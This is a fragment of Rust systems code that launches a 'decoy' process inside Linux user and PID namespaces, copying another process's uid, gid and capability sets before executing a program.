            for file in ["uid_map", "gid_map"] {
                fs::write(format!("/proc/{child}/{file}"), "0 0 4294967295")
                    .map_err(|e| format!("write the {file} of {child}: {e}"))?;
            }
            let _ = rustix::io::write(&go_w, b"1");
        }
    }
    let mut status = 0i32;
    // SAFETY: waits for our own child, into a status word of ours.
    unsafe {
        sc::syscall!(
            WAIT4,
            child as usize,
            &mut status as *mut i32 as usize,
            0,
            0
        )
    };
    match status {
        0 => Ok(()),
        s => Err(format!("the decoy ended with status {s:#x}")),
    }
}

fn decoy_child(
    c: &DecoyCreds,
    userns: Option<OwnedFd>,
    dir: &str,
    files: &[String],
    prog: &[String],
    ready: OwnedFd,
    go: OwnedFd,
) -> Result<std::convert::Infallible, String> {
    hold(dir, files);
    match (&c.ns, userns) {
        (DecoyNs::New, _) => {
            // SAFETY: single-threaded.
            unsafe { rustix::thread::unshare_unsafe(rustix::thread::UnshareFlags::NEWUSER) }
                .map_err(|e| format!("create a user namespace: {}", errno(e)))?;
            let mut b = [0u8];
            if rustix::io::write(&ready, b"1") != Ok(1) || rustix::io::read(&go, &mut b) != Ok(1) {
                return Err("the maps of the new user namespace were not written".into());
            }
        }
        (DecoyNs::Of(p), Some(fd)) => {
            let theirs = rustix::fs::fstat(&fd).map_err(errno)?;
            let ours = rustix::fs::stat("/proc/self/ns/user").map_err(errno)?;
            // setns(2) refuses the namespace one is in.
            if (theirs.st_dev, theirs.st_ino) != (ours.st_dev, ours.st_ino) {
                rustix::thread::move_into_link_name_space(
                    fd.as_fd(),
                    Some(rustix::thread::LinkNameSpaceType::User),
                )
                .map_err(|e| format!("join the user namespace of {p}: {}", errno(e)))?;
            }
        }
        _ => {}
    }
    let (uid, gid, caps) = match &c.like {
        // Read from inside its namespace: the ids as it sees them.
        Some(p) => {
            let status = fs::read_to_string(format!("/proc/{p}/status"))
                .map_err(|e| format!("read the status of {p}: {e}"))?;
            let field = |k: &str, i: usize| {
                status
                    .lines()
                    .find_map(|l| l.strip_prefix(k))
                    .and_then(|v| v.split_whitespace().nth(i).map(str::to_string))
                    .ok_or(format!("no {k} for {p}"))
            };
            let num = |s: String| s.parse::<u32>().map_err(|_| format!("bad id {s}"));
            let prm = u64::from_str_radix(&field("CapPrm:", 0)?, 16).map_err(|e| e.to_string())?;
            (num(field("Uid:", 1)?)?, num(field("Gid:", 1)?)?, prm)
        }
        None => {
            let held = rustix::thread::capabilities(None).map_err(errno)?.permitted;
            (c.uid, c.gid, c.caps.unwrap_or(held.bits()))
        }
    };
    take_creds(uid, gid, caps)?;
    // Credential changes clear the parent death signal: set it last. (The
    // parent lives outside this PID namespace, where getppid(2) says 0,
    // so whether it died meanwhile cannot be told; a decoy left behind
    // dies with the container.)
    rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::KILL))
        .map_err(errno)?;
    exec(&prog[0], &prog[1..])
}

/// uid, gid, groups and the capability set `caps`, arranged to survive
/// the exec of a plain program: root's permitted set after an exec is
/// its bounding and inheritable sets, anyone else's its ambient set.
fn take_creds(uid: u32, gid: u32, caps: u64) -> Result<(), String> {
    use rustix::thread::{CapabilitySet, CapabilitySets};
    limit_bounding(caps)?;
    let (u, g) = (
        rustix::process::Uid::from_raw(uid),
        rustix::process::Gid::from_raw(gid),
    );
    // Refused in a namespace whose setgroups is denied: then the groups
    // stay as they are, which the ptrace check does not look at.
    let _ = rustix::thread::set_thread_groups(&[g]);
    rustix::thread::set_thread_res_gid(g, g, g)
        .map_err(|e| format!("set gid {gid}: {}", errno(e)))?;
    rustix::thread::set_keep_capabilities(true).map_err(errno)?;
    rustix::thread::set_thread_res_uid(u, u, u)
        .map_err(|e| format!("set uid {uid}: {}", errno(e)))?;
    rustix::thread::set_keep_capabilities(false).map_err(errno)?;
    let set = CapabilitySet::from_bits_retain(caps);
    rustix::thread::set_capabilities(
        None,
        CapabilitySets {
            effective: set,
            permitted: set,
            inheritable: set,
        },
    )
    .map_err(|e| format!("set capabilities {caps:x}: {}", errno(e)))?;
    rustix::thread::clear_ambient_capability_set().map_err(errno)?;
    if uid != 0 {
        for bit in 0..64 {
            if caps & 1 << bit != 0 {
                rustix::thread::configure_capability_in_ambient_set(
                    CapabilitySet::from_bits_retain(1 << bit),
                    true,
                )
                .map_err(|e| format!("raise ambient capability {bit}: {}", errno(e)))?;
            }
        }
    }
    Ok(())
}

/// Drops from the bounding set every capability not in `keep`.
fn limit_bounding(keep: u64) -> Result<(), String> {
    for bit in 0..64 {
        if keep & 1 << bit != 0 {
            continue;
        }
        match rustix::thread::remove_capability_from_bounding_set(
            rustix::thread::CapabilitySet::from_bits_retain(1 << bit),
        ) {
            Ok(()) => {}
            Err(rustix::io::Errno::INVAL) => break,
            Err(e) => return Err(format!("drop capability {bit}: {}", errno(e))),
        }
    }
    Ok(())
}
